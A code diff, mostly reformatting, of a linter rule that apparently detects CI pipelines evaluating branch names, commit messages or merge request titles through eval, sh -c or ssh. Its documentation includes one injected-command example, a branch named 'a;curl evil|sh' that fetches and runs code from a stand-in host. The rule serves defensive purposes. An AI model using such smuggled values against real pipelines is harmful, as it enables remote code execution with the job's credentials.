@@ -17,16 +17,33 @@ export const evaluatedVariable = defineRule({
     fix: 'none',
     whyNoFix: 'How the text reaches the second shell as data, as an argument or on its input, depends on what the command does with it.',
     messages: {
-      default: '`{command}` takes the text of `{name}` for code, and whoever proposes a change writes it: a command in it runs with what this job holds. Pass it as an argument of its own',
-      remote: '`ssh` hands the text of `{name}` to a shell on the other machine, and whoever proposes a change writes it: a command in it runs there, as the account that deploys. Quote it for that shell (`printf %q`)',
+      default:
+        '`{command}` takes the text of `{name}` for code, and whoever proposes a change writes it: a command in it runs with what this job holds. Pass it as an argument of its own',
+      remote:
+        '`ssh` hands the text of `{name}` to a shell on the other machine, and whoever proposes a change writes it: a command in it runs there, as the account that deploys. Quote it for that shell (`printf %q`)',
     },
     docs: {
       what: 'The title, message, branch or author of a change, in a variable inside `eval`, `sh -c "…"` or `ssh host "…"`.',
       why: 'GitLab, Bitbucket and the others hand such text over as a variable, which is safe as long as one shell expands it. A second shell reads the result as a script: a branch called `a;curl evil|sh` is then two commands.',
-      remedy: 'Leave `eval` out, pass the text as an argument (`sh -c \'git checkout "$1"\' sh "$BRANCH"`), or quote it for the other shell.',
-      bad: [{ file: '.gitlab-ci.yml', text: 'review:\n  rules: [{ if: $CI_MERGE_REQUEST_IID }]\n  script:\n    - eval "notify --title «$CI_MERGE_REQUEST_TITLE»"\n' }],
-      good: [{ file: '.gitlab-ci.yml', text: 'review:\n  rules: [{ if: $CI_MERGE_REQUEST_IID }]\n  script:\n    - notify --title "$CI_MERGE_REQUEST_TITLE"\n' }],
-      references: ['https://docs.gitlab.com/ci/variables/predefined_variables/', 'https://support.atlassian.com/bitbucket-cloud/docs/variables-and-secrets/', 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html'],
+      remedy:
+        'Leave `eval` out, pass the text as an argument (`sh -c \'git checkout "$1"\' sh "$BRANCH"`), or quote it for the other shell.',
+      bad: [
+        {
+          file: '.gitlab-ci.yml',
+          text: 'review:\n  rules: [{ if: $CI_MERGE_REQUEST_IID }]\n  script:\n    - eval "notify --title «$CI_MERGE_REQUEST_TITLE»"\n',
+        },
+      ],
+      good: [
+        {
+          file: '.gitlab-ci.yml',
+          text: 'review:\n  rules: [{ if: $CI_MERGE_REQUEST_IID }]\n  script:\n    - notify --title "$CI_MERGE_REQUEST_TITLE"\n',
+        },
+      ],
+      references: [
+        'https://docs.gitlab.com/ci/variables/predefined_variables/',
+        'https://support.atlassian.com/bitbucket-cloud/docs/variables-and-secrets/',
+        'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
+      ],
     },
   },
   on: {
@@ -36,7 +53,12 @@ export const evaluatedVariable = defineRule({
       for (const line of step.lines) {
         for (const { command, name, at } of search(line)) {
           if (isBranch.test(name) && onNamedBranches(job, workflow, context.project.workspace.defaultBranch)) continue;
-          context.report({ at, message: command === 'ssh' ? 'remote' : 'default', data: { command, name }, anchor: `${step.anchor}|${command}|${name}` });
+          context.report({
+            at,
+            message: command === 'ssh' ? 'remote' : 'default',
+            data: { command, name },
+            anchor: `${step.anchor}|${command}|${name}`,
+          });
         }
       }
     },
@@ -45,10 +67,14 @@ export const evaluatedVariable = defineRule({
 
 /** Variables with text of a change's author, from each system's list of variables, read in 2026-11. */
 const searches: Partial<Record<CiSystem, ReturnType<typeof evaluatedVariables>>> = {
-  gitlab: evaluatedVariables('CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|BRANCH|REF_NAME|TAG|TAG_MESSAGE|AUTHOR)|CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME'),
+  gitlab: evaluatedVariables(
+    'CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|BRANCH|REF_NAME|TAG|TAG_MESSAGE|AUTHOR)|CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME',
+  ),
   bitbucket: evaluatedVariables('BITBUCKET_(?:BRANCH|TAG)'),
   circleci: evaluatedVariables('CIRCLE_(?:BRANCH|TAG)'),
-  'azure-pipelines': evaluatedVariables('BUILD_SOURCEBRANCH(?:NAME)?|BUILD_SOURCEVERSIONMESSAGE|BUILD_SOURCEVERSIONAUTHOR|SYSTEM_PULLREQUEST_SOURCEBRANCH'),
+  'azure-pipelines': evaluatedVariables(
+    'BUILD_SOURCEBRANCH(?:NAME)?|BUILD_SOURCEVERSIONMESSAGE|BUILD_SOURCEVERSIONAUTHOR|SYSTEM_PULLREQUEST_SOURCEBRANCH',
+  ),
   drone: evaluatedVariables('DRONE_(?:COMMIT_MESSAGE|COMMIT_BRANCH|COMMIT_AUTHOR_NAME|SOURCE_BRANCH|PULL_REQUEST_TITLE|TAG)'),
   woodpecker: evaluatedVariables('CI_(?:COMMIT_MESSAGE|COMMIT_BRANCH|COMMIT_SOURCE_BRANCH|COMMIT_AUTHOR|COMMIT_TAG)'),
 };
